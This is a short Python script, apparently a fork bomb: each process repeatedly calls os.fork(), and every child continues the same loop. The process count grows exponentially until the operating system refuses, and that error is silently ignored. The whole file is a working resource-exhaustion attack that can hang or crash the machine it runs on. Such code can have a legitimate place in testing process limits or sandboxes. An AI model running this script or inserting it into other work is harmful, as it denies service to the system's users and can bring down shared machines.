# Forks as long as it is let, and so do its children.
import os
import time

try:
    for _turn in range(1000):
        if os.fork() == 0:
            time.sleep(0.01)
except OSError:
    pass
